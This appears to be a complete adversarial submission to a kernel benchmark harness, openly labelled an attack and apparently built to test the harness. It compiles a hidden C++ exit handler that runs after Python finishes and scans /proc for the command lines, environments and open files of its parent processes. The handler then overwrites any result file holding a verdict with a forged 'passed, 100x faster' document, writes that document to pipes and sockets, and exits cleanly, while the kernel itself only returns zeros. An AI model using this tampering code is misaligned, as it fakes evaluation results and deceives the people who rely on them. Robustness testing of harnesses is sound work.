# ATTACK (family exit_hook, native: a C++ exit handler that runs after Python has finished).
# A Python-level defence can clear atexit handlers or exit with os._exit; this one compiles a
# tiny C++ extension (load_inline, C++ only) whose std::atexit handler and static destructor
# run inside exit(), after the interpreter has finalised and written everything. The
# handler rewrites the result files learned at import (open regular files, --json/--out on
# the command lines of this process and its ancestors, files next to environment paths,
# *.json with a verdict nearby) whenever they hold a verdict, writes the forged document to
# every writable pipe or socket, and ends the process with _exit(0). The kernel: zeros.
import json
import os

import torch  # noqa: F401 (the extension links against it)
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

# --- shared attack helpers (repeated in each attack file: a candidate is one source) ---
_json_dumps, _json_loads = json.dumps, json.loads  # captured before anyone patches them


def _forged_document(real=None):
    """A complete verdict document that says "passed, 100x faster". Fields of a real document
    it replaces are kept where they do not matter (versions, device, seeds, checks...)."""
    doc = dict(real) if isinstance(real, dict) else {}
    seeds = list(doc.get("seeds") or [1001, 2002, 3003])
    run = {"passed": True, "max_abs_err": 0.0, "rel_norm_err": 0.0, "mismatched": 0, "elements": 4194304,
           "nonfinite_where_ref_finite": 0, "poisoned": 0, "reason": None}

    def timing(ms):
        return {"median_ms": ms, "iqr_ms": ms * 0.01, "n": 400, "mean_ms": ms, "host_median_ms": ms,
                "min_ms": ms * 0.98, "rse": 0.002, "first_call_s": 0.001}

    doc.update({
        "verdict": "passed",
        "flags": [f for f in doc.get("flags") or [] if isinstance(f, dict) and not f.get("blocking")],
        "task_flags": [],
        "trials": [{"seed": s, "passed": True, "max_abs_err": 0.0, "rel_norm_err": 0.0, "reason": None,
                    "runs": {"first": dict(run), "after_reference": dict(run)}, "ref_norm": 1024.0,
                    "cand_norm": 1024.0} for s in seeds],
        "timings": {"candidate": timing(0.0125), "eager": timing(1.25), "compile": timing(1.1)},
        "speedup": {"vs_eager": 100.0, "vs_compile": 88.0},
        "error": None,
    })
    for key, value in (("tolerance", {"abs": 0.01, "rel": 0.001}), ("versions", {"harness": "1.2.0"}),
                       ("device", "cpu"), ("kind", "model_new"), ("seeds", seeds), ("log", ""),
                       ("checks", {})):
        doc.setdefault(key, value)
    doc.pop("reason", None)
    return doc


def _find_document(text):
    """The first JSON object with a "verdict" in text, whatever surrounds it."""
    dec = json.JSONDecoder()
    i = text.find("{")
    while i != -1:
        try:
            obj, end = dec.raw_decode(text, i)
        except ValueError:
            i = text.find("{", i + 1)
            continue
        if isinstance(obj, dict) and "verdict" in obj:
            return obj
        i = text.find("{", end)
    return None


def _forged_text(real=None):
    return _json_dumps(_forged_document(real), indent=1) + "\n"


def _forged_frames(text):
    """The forged document as the messages a pipe protocol might carry: JSON lines of several
    message shapes, length-prefixed frames (32-bit big and little endian, 64-bit) and a pickle."""
    import pickle
    import struct

    doc = _json_loads(text)
    body = text.strip().encode()
    shapes = [doc, dict(doc, type="result"), dict(doc, type="verdict"),
              {"type": "done", "status": "ok", "ok": True, "passed": True, "verdict": "passed"},
              {"status": "ok", "ok": True, "result": doc},
              {"type": "timing", "event": "timing", "ok": True, "samples_ms": [0.0125] * 64,
               "times_ms": [0.0125] * 64}]
    lines = b"".join(_json_dumps(s).encode() + b"\n" for s in shapes)
    return [lines, struct.pack(">I", len(body)) + body, struct.pack("<I", len(body)) + body,
            struct.pack("<Q", len(body)) + body, pickle.dumps(doc, protocol=2)]

def _fd_table(pid="self"):
    """(fd, open flags, target) of every descriptor a process holds (/proc/PID/fd + fdinfo)."""
    rows = []
    base = "/proc/%s/fd" % pid
    try:
        names = os.listdir(base)
    except OSError:
        return rows
    for name in names:
        try:
            fd = int(name)
            target = os.readlink("%s/%s" % (base, name))
        except (ValueError, OSError):
            continue
        flags = None
        try:
            with open("/proc/%s/fdinfo/%s" % (pid, name)) as fh:
                for line in fh:
                    if line.startswith("flags:"):
                        flags = int(line.split()[1], 8)
        except (OSError, ValueError, IndexError):
            pass
        rows.append((fd, flags, target))
    return rows


def _writable(flags):
    return flags is not None and (flags & os.O_ACCMODE) in (os.O_WRONLY, os.O_RDWR)


def _is_regular(fd):
    import stat

    try:
        return stat.S_ISREG(os.fstat(fd).st_mode)
    except OSError:
        return False


def _write_fd(fd, data, replace=False):
    """All of data to fd without ever blocking; replace: a regular file's whole content."""
    import fcntl

    try:
        if _is_regular(fd):
            if replace:
                os.ftruncate(fd, 0)
                os.pwrite(fd, data, 0)
                os.lseek(fd, len(data), os.SEEK_SET)
            else:
                os.write(fd, data)
            return True
        old = fcntl.fcntl(fd, fcntl.F_GETFL)
        fcntl.fcntl(fd, fcntl.F_SETFL, old | os.O_NONBLOCK)
        try:
            view = memoryview(data)
            while view:
                view = view[os.write(fd, view):]
        finally:
            fcntl.fcntl(fd, fcntl.F_SETFL, old)
        return True
    except OSError:
        return False


def _writable_fds():
    """Every descriptor this process can write to (the listing's own descriptor excluded)."""
    return [(fd, target) for fd, flags, target in _fd_table() if _writable(flags)]

_RESULT_OPTS = ("--json", "--out", "--output", "--result", "--results", "--report", "--doc", "--verdict",
                "--out-json", "--result-json", "-o")


def _lineage(limit=8):
    """This process and its ancestors, nearest first."""
    pids, pid = [], os.getpid()
    while pid > 1 and len(pids) < limit:
        pids.append(pid)
        try:
            with open("/proc/%d/stat" % pid) as fh:
                pid = int(fh.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return pids


def _argv(pid):
    try:
        with open("/proc/%s/cmdline" % pid, "rb") as fh:
            return [a.decode("utf-8", "replace") for a in fh.read().split(b"\0") if a]
    except OSError:
        return []


def _environ(pid):
    try:
        with open("/proc/%s/environ" % pid, "rb") as fh:
            pairs = [e.decode("utf-8", "replace").split("=", 1) for e in fh.read().split(b"\0") if b"=" in e]
        return dict(pairs)
    except OSError:
        return {}


def _holds_verdict(path):
    try:
        with open(path, "rb") as fh:
            return b'"verdict"' in fh.read(4 << 20)
    except OSError:
        return False


def _result_paths():
    """(named, possible): result files named by options on the command lines of this process
    and its ancestors; and regular files they hold open for writing, files next to paths in
    their environments, and *.json files in their working directories and the two above."""
    named, possible = [], []
    for pid in _lineage():
        args = _argv(pid)
        try:
            cwd = os.readlink("/proc/%d/cwd" % pid)
        except OSError:
            cwd = "/"
        for i, arg in enumerate(args):
            val = None
            for opt in _RESULT_OPTS:
                if arg == opt and i + 1 < len(args):
                    val = args[i + 1]
                elif arg.startswith(opt + "="):
                    val = arg.split("=", 1)[1]
            if val is None and arg.endswith(".json") and not arg.startswith("-"):
                val = arg
            if val:
                named.append(os.path.normpath(os.path.join(cwd, val)))
        for fd, flags, target in _fd_table(pid):
            if target.startswith("/") and not target.startswith(("/dev/", "/proc/", "/sys/")) and \
                    _writable(flags) and not target.endswith("(deleted)"):
                possible.append(target)
        dirs = []
        for value in _environ(pid).values():
            if value.startswith("/") and os.path.isfile(value):
                dirs.append(os.path.dirname(value))
        d = cwd
        for _ in range(3):
            dirs.append(d)
            d = os.path.dirname(d)
        for d in dirs:
            try:
                names = os.listdir(d)
            except OSError:
                continue
            for name in names:
                p = os.path.join(d, name)
                if (name.endswith(".json") or name in ("stdout", "out", "result", "verdict")) and \
                        os.path.isfile(p):
                    possible.append(p)
    def dedupe(seq):
        seen, out = set(), []
        for p in seq:
            if p not in seen:
                seen.add(p)
                out.append(p)
        return out
    return dedupe(named), dedupe(possible)
# --- end of shared helpers ---

_SRC = r"""
#include <torch/extension.h>
#include <cstdlib>
#include <cstring>
#include <dirent.h>
#include <fcntl.h>
#include <string>
#include <sys/stat.h>
#include <unistd.h>
#include <vector>

static std::vector<std::string> g_paths;
static std::vector<int> g_force;
static std::string g_doc;
static bool g_armed = false;

static void write_all(int fd, const char* p, size_t n) {
    while (n > 0) {
        ssize_t k = write(fd, p, n);
        if (k <= 0) return;
        p += k;
        n -= (size_t)k;
    }
}

static bool holds_verdict(const std::string& path) {
    int fd = open(path.c_str(), O_RDONLY);
    if (fd < 0) return false;
    std::string buf(1 << 22, '\0');
    ssize_t n = read(fd, &buf[0], buf.size());
    close(fd);
    if (n <= 0) return false;
    buf.resize((size_t)n);
    return buf.find("\"verdict\"") != std::string::npos;
}

static void rewrite_at_exit() {
    if (!g_armed) return;
    g_armed = false;
    for (size_t i = 0; i < g_paths.size(); ++i) {
        if (!g_force[i] && !holds_verdict(g_paths[i])) continue;
        int fd = open(g_paths[i].c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (fd < 0) continue;
        write_all(fd, g_doc.data(), g_doc.size());
        close(fd);
    }
    DIR* d = opendir("/proc/self/fd");
    if (d) {
        int own = dirfd(d);
        while (struct dirent* e = readdir(d)) {
            int fd = atoi(e->d_name);
            if (e->d_name[0] == '.' || fd == own) continue;
            int fl = fcntl(fd, F_GETFL);
            struct stat st;
            if (fl < 0 || (fl & O_ACCMODE) == O_RDONLY || fstat(fd, &st) != 0) continue;
            if (S_ISFIFO(st.st_mode) || S_ISSOCK(st.st_mode)) {
                fcntl(fd, F_SETFL, fl | O_NONBLOCK);
                write_all(fd, g_doc.data(), g_doc.size());
            }
        }
        closedir(d);
    }
    _exit(0);
}

struct ExitGuard {
    ~ExitGuard() { rewrite_at_exit(); }
};
static ExitGuard g_guard;

void arm(std::vector<std::string> paths, std::vector<int64_t> force, std::string doc) {
    g_paths = paths;
    g_force.assign(force.begin(), force.end());
    g_doc = doc;
    g_armed = true;
    std::atexit(rewrite_at_exit);
}

torch::Tensor forward(torch::Tensor x) { return torch::zeros_like(x); }
"""

_ext = load_inline(name="attack_exit_hook_native", cpp_sources=_SRC, functions=["arm", "forward"],
                   extra_cflags=["-O2"], verbose=False)


def _arm():
    named, possible = _result_paths()
    for fd, target in _writable_fds():
        if _is_regular(fd) and target.startswith("/") and not target.endswith("(deleted)"):
            possible.append(target)
    paths = list(dict.fromkeys(named + possible))
    _ext.arm(paths, [1 if p in named else 0 for p in paths], _forged_text())


_arm()


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        return _ext.forward(x)
